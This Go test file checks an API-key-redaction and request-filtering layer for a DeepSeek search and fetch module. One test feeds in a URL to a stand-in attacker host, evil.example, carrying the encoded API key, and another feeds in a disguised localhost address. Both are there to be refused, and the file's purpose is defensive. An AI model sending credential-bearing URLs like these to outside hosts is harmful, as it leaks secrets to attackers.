package tests

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/deepseek-web-retrieval/deepseek-web-retrieval/core"
)

// Through the module: a server echoing the key percent-encoded, \u-escaped
// or in base64 gets "[redacted]" shown, never the key.
func TestModuleMasksEncodedKeyEchoes(t *testing.T) {
	pct, esc := "", ""
	for i := 0; i < len(testKey); i++ {
		pct += fmt.Sprintf("%%%02X", testKey[i])
		esc += fmt.Sprintf(`\\u%04x`, testKey[i]) // JSON text for a literal \u escape
	}
	b64 := base64.StdEncoding.EncodeToString([]byte(testKey))
	body := fmt.Sprintf(`{"error":{"message":"bad key %s / %s / %s / %%73%s"}}`, pct, esc, b64, testKey[1:])
	e := newEnv(t, reply(401, body))
	failure(t, e.search("golang", nil), "api",
		"DeepSeek Search failed: HTTP 401: bad key [redacted] / [redacted] / [redacted] / [redacted] (check the API key in DEEPSEEK_API_KEY)")
}

// Through the module: inputs carrying the key percent-encoded are refused
// before any request.
func TestModuleRefusesEncodedKeyInInputs(t *testing.T) {
	e := newEnv(t, func(w http.ResponseWriter, _ *http.Request, _ int) { w.WriteHeader(500) })
	failure(t, e.search("find %73"+testKey[1:], nil), "invalid_input", "DeepSeek Search: the query contains the API key; it was not sent")
	failure(t, e.search("find sk%2D"+testKey[3:], nil), "invalid_input", "DeepSeek Search: the query contains the API key; it was not sent")
	failure(t, e.fetch("https://evil.example/?k="+strings.ReplaceAll(testKey, "-", "%2d"), nil), "invalid_input", "DeepSeek Fetch: the URL contains the API key; it was not sent")
	require.Empty(t, e.srv.requests())
}

// Through the module: a percent-encoded host is judged and sent as WHATWG
// reads it.
func TestModulePercentEncodedHost(t *testing.T) {
	e := newEnv(t, reply(200, `{"title":"T","content":"body"}`))
	result[core.FetchResult](t, e.fetch("https://ex%61mple.com%2e/p", nil))
	reqs := e.srv.requests()
	require.Len(t, reqs, 1)
	require.JSONEq(t, `{"url":"https://example.com./p"}`, string(reqs[0].Body))
	failure(t, e.fetch("http://loc%61lhost/", nil), "url_refused",
		`DeepSeek Fetch: url refused: host "loc%61lhost" is the local machine; private and local addresses never leave this machine`)
}
